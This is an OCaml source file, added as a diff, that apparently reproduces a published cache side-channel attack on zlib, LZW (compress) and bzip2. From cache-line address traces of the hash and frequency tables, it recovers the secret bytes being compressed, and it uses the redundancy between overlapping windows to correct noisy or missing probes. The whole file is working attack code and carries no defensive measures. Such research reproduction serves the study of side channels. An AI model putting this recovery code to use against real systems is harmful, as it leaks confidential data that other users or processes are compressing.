@@ -1,0 +1,352 @@
+module Lzw = Zipchannel_compress.Lzw
+
+let line_mask addr = addr land lnot 63
+
+(* ------------------------------------------------------------------ *)
+(* Zlib *)
+
+let zlib_observe ~head_base ~ins_h = line_mask (head_base + (ins_h lsl 1))
+
+(* Observable part of ins_h for one window: bits 5..14, from the line
+   address of head + ins_h*2 with a line-aligned head. *)
+let zlib_known ~head_base obs = ((obs - head_base) lsr 6) land 0x3ff
+
+let zlib_direct_bits ~head_base observed =
+  (* ins_h bits 8..9 are bits 3..4 of the middle byte, untouched by the
+     xor with its neighbours. *)
+  Array.map (fun obs -> (zlib_known ~head_base obs lsr 3) land 0x3) observed
+
+let zlib_recover_lowercase ?(high_bits = 0b011) ~head_base ~n observed =
+  if Array.length observed <> max 0 (n - 2) then
+    invalid_arg "Recovery.zlib_recover_lowercase: trace length";
+  let out = Bytes.make n (Char.chr ((high_bits lsl 5) land 0xff)) in
+  let a = high_bits land 0x7 in
+  (* known k = ins_h bits 5..14 of window k; layout (from
+     ins_h = c_k<<10 ^ c_{k+1}<<5 ^ c_{k+2}, 15-bit mask):
+       bits 13..14 = c_k[3..4]
+       bits 10..12 = c_k[0..2] ^ c_{k+1}[5..7]
+       bits  8..9  = c_{k+1}[3..4]
+       bits  5..7  = c_{k+1}[0..2] ^ c_{k+2}[5..7] *)
+  for k = 0 to n - 3 do
+    let h = zlib_known ~head_base observed.(k) lsl 5 in
+    let low3 = ((h lsr 10) land 0x7) lxor a in
+    let mid2 = (h lsr 13) land 0x3 in
+    let c = (high_bits lsl 5) lor (mid2 lsl 3) lor low3 in
+    Bytes.set out k (Char.chr (c land 0xff))
+  done;
+  (* The penultimate byte is fully visible as the middle byte of the last
+     window. *)
+  if n >= 3 then begin
+    let h = zlib_known ~head_base observed.(n - 3) lsl 5 in
+    let low3 = ((h lsr 5) land 0x7) lxor a in
+    let mid2 = (h lsr 8) land 0x3 in
+    let c = (high_bits lsl 5) lor (mid2 lsl 3) lor low3 in
+    Bytes.set out (n - 2) (Char.chr (c land 0xff))
+  end;
+  out
+
+(* Consecutive windows overlap: ins_h' = ((ins_h << 5) ^ c) & 0x7fff, so
+   bits 10-14 of a window's hash equal bits 5-9 of its predecessor's —
+   the redundancy the paper's Section V-D uses as error correction.  This
+   resolves ambiguous or lost probe windows against their neighbours. *)
+let zlib_resolve_candidates ~head_base observations =
+  let n = Array.length observations in
+  let h_of obs = zlib_known ~head_base obs lsl 5 (* bits 5-14 in place *) in
+  let chain_ok prev cur = (cur lsr 10) land 0x1f = (prev lsr 5) land 0x1f in
+  let known = Array.make (max 1 n) None in
+  Array.iteri
+    (fun k cands ->
+      match cands with [ obs ] -> known.(k) <- Some (h_of obs) | _ -> ())
+    observations;
+  (* Two passes let a resolution propagate into a neighbouring hole. *)
+  for _ = 1 to 2 do
+    Array.iteri
+      (fun k cands ->
+        if known.(k) = None then begin
+          let fits h =
+            (match if k > 0 then known.(k - 1) else None with
+            | Some prev -> chain_ok prev h
+            | None -> true)
+            && match if k + 1 < n then known.(k + 1) else None with
+               | Some next -> chain_ok h next
+               | None -> true
+          in
+          match List.filter fits (List.map h_of cands) with
+          | [ h ] -> known.(k) <- Some h
+          | _ -> ()
+        end)
+      observations
+  done;
+  Array.map
+    (fun h ->
+      match h with
+      | Some h -> Some (line_mask (head_base + (h lsl 1)))
+      | None -> None)
+    (if n = 0 then [||] else known)
+
+(* ------------------------------------------------------------------ *)
+(* LZW *)
+
+let lzw_observe ~htab_base ~hp = line_mask (htab_base + (hp lsl 3))
+
+(* Observable part of hp: bits 3 and up, from htab entries being 8 bytes
+   wide and htab being line-aligned. *)
+let lzw_known ~htab_base obs = ((obs - htab_base) lsr 6) lsl 3
+
+let lzw_candidate_firsts ~htab_base observed =
+  if Array.length observed = 0 then List.init 8 (fun b -> b)
+  else begin
+    (* hp_1 = (c << 9) xor ent_0 with ent_0 = first byte < 256: bits 3..7
+       of the index are the first byte's bits 3..7. *)
+    let hi = lzw_known ~htab_base observed.(0) land 0xf8 in
+    List.init 8 (fun b -> hi lor b)
+  end
+
+let lzw_recover ~htab_base ~first observed =
+  let n = Array.length observed + 1 in
+  let out = Bytes.make n (Char.chr (first land 0xff)) in
+  let st = Lzw.Stepper.create ~first:(first land 0xff) in
+  Array.iteri
+    (fun k obs ->
+      let hp = lzw_known ~htab_base obs in
+      let ent = Lzw.Stepper.ent st in
+      let c = ((hp lsr 9) lxor (ent lsr 9)) land 0xff in
+      Bytes.set out (k + 1) (Char.chr c);
+      ignore (Lzw.Stepper.feed st c))
+    observed;
+  out
+
+let lzw_consistency ~htab_base ~first observed =
+  if Array.length observed = 0 then 1.0
+  else begin
+    let st = Lzw.Stepper.create ~first:(first land 0xff) in
+    let ok = ref 0 in
+    Array.iter
+      (fun obs ->
+        let hp = lzw_known ~htab_base obs in
+        let ent = Lzw.Stepper.ent st in
+        (* Bits 3..8 of the index come only from ent; a wrong dictionary
+           mirror diverges here almost immediately. *)
+        if (hp lsr 3) land 0x3f = (ent lsr 3) land 0x3f then incr ok;
+        let c = ((hp lsr 9) lxor (ent lsr 9)) land 0xff in
+        ignore (Lzw.Stepper.feed st c))
+      observed;
+    float_of_int !ok /. float_of_int (Array.length observed)
+  end
+
+(* The low 3 bits of the first byte sit below the channel's granularity
+   and the 8 candidate dictionaries are isomorphic, so no trace statistic
+   separates them — the paper enumerates the 2^3 options and picks "the
+   most feasible input".  Feasibility here: trace consistency first (kills
+   candidates corrupted by noise), then printable-ASCII plausibility of
+   the first byte. *)
+let lzw_recover_auto ~htab_base observed =
+  let candidates = lzw_candidate_firsts ~htab_base observed in
+  let printable b = if b >= 0x20 && b <= 0x7e then 1 else 0 in
+  let scored =
+    List.map
+      (fun first ->
+        ((lzw_consistency ~htab_base ~first observed, printable first), first))
+      candidates
+  in
+  let best =
+    List.fold_left
+      (fun (bs, bf) (s, f) -> if s > bs then (s, f) else (bs, bf))
+      ((-1.0, -1), 0) scored
+  in
+  lzw_recover ~htab_base ~first:(snd best) observed
+
+let lzw_recover_from_candidates ~htab_base ~first observations =
+  let total = Array.length observations in
+  let out = Bytes.make (total + 1) (Char.chr (first land 0xff)) in
+  let st = Lzw.Stepper.create ~first:(first land 0xff) in
+  let resolved = ref 0 in
+  let consistent_of ent cands =
+    List.filter
+      (fun hp -> (hp lsr 3) land 0x3f = (ent lsr 3) land 0x3f)
+      (List.map (fun obs -> lzw_known ~htab_base obs) cands)
+  in
+  (* Local repair for a lost/ambiguous reading: try every byte value and
+     replay a few subsequent readings with a read-only ent simulation
+     (dictionary additions inside the window are ignored — they are
+     almost never re-looked-up that fast).  A wrong byte trips the
+     bits 3-8 prediction almost immediately. *)
+  let lookahead = 6 in
+  let repair k =
+    let horizon = min (k + lookahead) (total - 1) in
+    let advance ent c =
+      match Lzw.Stepper.probe_hit st ~ent ~c with
+      | Some code -> code
+      | None -> c
+    in
+    let score_of c0 =
+      let ent = ref (advance (Lzw.Stepper.ent st) c0) in
+      let ok = ref 0 in
+      for j = k + 1 to horizon do
+        match consistent_of !ent observations.(j) with
+        | [ hp ] ->
+            incr ok;
+            ent := advance !ent (((hp lsr 9) lxor (!ent lsr 9)) land 0xff)
+        | _ -> ent := advance !ent 0
+      done;
+      !ok
+    in
+    let best = ref 0 and best_score = ref (-1) in
+    for c = 0 to 255 do
+      let s = score_of c in
+      if s > !best_score then begin
+        best_score := s;
+        best := c
+      end
+    done;
+    !best
+  in
+  Array.iteri
+    (fun k cands ->
+      let ent = Lzw.Stepper.ent st in
+      match consistent_of ent cands with
+      | [ hp ] ->
+          incr resolved;
+          let c = ((hp lsr 9) lxor (ent lsr 9)) land 0xff in
+          Bytes.set out (k + 1) (Char.chr c);
+          ignore (Lzw.Stepper.feed st c)
+      | _ ->
+          let c = repair k in
+          Bytes.set out (k + 1) (Char.chr c);
+          ignore (Lzw.Stepper.feed st c))
+    observations;
+  let score =
+    if total = 0 then 1.0 else float_of_int !resolved /. float_of_int total
+  in
+  (out, score)
+
+let lzw_recover_candidates_auto ~htab_base observations =
+  let firsts =
+    (* The first reading's index is (c << 9) xor first-byte, so its low
+       eight observable bits pin the first byte's bits 3-7; without a
+       clean first reading all 256 values compete on score. *)
+    match (if Array.length observations > 0 then observations.(0) else []) with
+    | [ obs ] ->
+        let hi = lzw_known ~htab_base obs land 0xf8 in
+        List.init 8 (fun b -> hi lor b)
+    | _ -> List.init 256 (fun b -> b)
+  in
+  let printable b = if b >= 0x20 && b <= 0x7e then 1 else 0 in
+  let best = ref None in
+  List.iter
+    (fun first ->
+      let out, score = lzw_recover_from_candidates ~htab_base ~first observations in
+      let key = (score, printable first) in
+      match !best with
+      | Some (bkey, _) when bkey >= key -> ()
+      | _ -> best := Some (key, out))
+    firsts;
+  match !best with
+  | Some (_, out) -> out
+  | None -> Bytes.create (Array.length observations + 1)
+
+(* ------------------------------------------------------------------ *)
+(* Bzip2 *)
+
+let bzip2_observe ~ftab_base ~j = line_mask (ftab_base + (4 * j))
+
+let bzip2_window ~ftab_base obs =
+  let lo = obs - ftab_base in
+  let hi = lo + 63 in
+  let jmin = if lo <= 0 then 0 else (lo + 3) / 4 in
+  let jmax = min 0xffff (if hi < 0 then 0 else hi / 4) in
+  (jmin, jmax)
+
+let bzip2_recover_candidates ~ftab_base ~n observed =
+  if Array.length observed <> n then
+    invalid_arg "Recovery.bzip2_recover: trace length";
+  (* Iteration k covers i = n-1-k with index j = x_i << 8 | x_{i+1 mod n};
+     each candidate line address of that iteration yields a 16-value j
+     window. *)
+  let windows_of i =
+    List.map (fun obs -> bzip2_window ~ftab_base obs) observed.(n - 1 - i)
+  in
+  let dedup l = List.sort_uniq compare l in
+  let hi_candidates i =
+    dedup
+      (List.concat_map
+         (fun (jmin, jmax) ->
+           if jmin lsr 8 = jmax lsr 8 then [ jmin lsr 8 ]
+           else [ jmin lsr 8; jmax lsr 8 ])
+         (windows_of i))
+  in
+  let out = Array.make (max 1 n) 0 in
+  if n > 0 then begin
+    (* Anchor: an iteration with a single clean reading whose window does
+       not straddle a high-byte boundary pins its byte exactly. *)
+    let anchor = ref (-1) in
+    (let i = ref 0 in
+     while !anchor < 0 && !i < n do
+       (match (windows_of !i, hi_candidates !i) with
+       | [ _ ], [ b ] ->
+           anchor := !i;
+           out.(!i) <- b
+       | _ -> ());
+       incr i
+     done);
+    if !anchor < 0 then begin
+      anchor := 0;
+      out.(0) <- (match hi_candidates 0 with b :: _ -> b | [] -> 0)
+    end;
+    (* Walk leftwards around the cycle: knowing x_{i+1} exactly, a window
+       admits at most one high byte (two admissible j values sharing a low
+       byte would differ by 256 > 63).  A spurious candidate window admits
+       any high byte with probability only 16/256, so the chain constraint
+       doubles as error correction for ambiguous probes (Section V-D). *)
+    for step = 1 to n - 1 do
+      let i = ((!anchor - step) mod n + n) mod n in
+      let next = out.((i + 1) mod n) in
+      let admitted =
+        dedup
+          (List.filter_map
+             (fun (jmin, jmax) ->
+               let rec try_hi hi =
+                 if hi > 255 then None
+                 else begin
+                   let j = (hi lsl 8) lor next in
+                   if j >= jmin && j <= jmax then Some hi else try_hi (hi + 1)
+                 end
+               in
+               try_hi 0)
+             (windows_of i))
+      in
+      out.(i) <-
+        (match admitted with
+        | [ b ] -> b
+        | _ -> (
+            (* Conflicting or missing readings: take the raw candidate. *)
+            match hi_candidates i with b :: _ -> b | [] -> 0))
+    done;
+    (* Repair pass: a byte with no reading of its own still appears as the
+       exact low byte of the previous iteration's index; with its left
+       neighbour resolved its top four bits are pinned — take the middle
+       of the remaining range. *)
+    for i = 0 to n - 1 do
+      if windows_of i = [] then begin
+        let prev = ((i - 1) mod n + n) mod n in
+        let hi = out.(prev) in
+        let candidate =
+          List.find_map
+            (fun (jmin, jmax) ->
+              let lo_at j = j land 0xff in
+              let j_lo = max jmin (hi lsl 8) in
+              let j_hi = min jmax ((hi lsl 8) lor 0xff) in
+              if j_lo <= j_hi && j_lo lsr 8 = hi then
+                Some ((lo_at j_lo + lo_at j_hi) / 2)
+              else None)
+            (windows_of prev)
+        in
+        match candidate with Some b -> out.(i) <- b | None -> ()
+      end
+    done
+  end;
+  Bytes.init n (fun i -> Char.chr (out.(i) land 0xff))
+
+let bzip2_recover ~ftab_base ~n observed =
+  bzip2_recover_candidates ~ftab_base ~n
+    (Array.map (function Some o -> [ o ] | None -> []) observed)
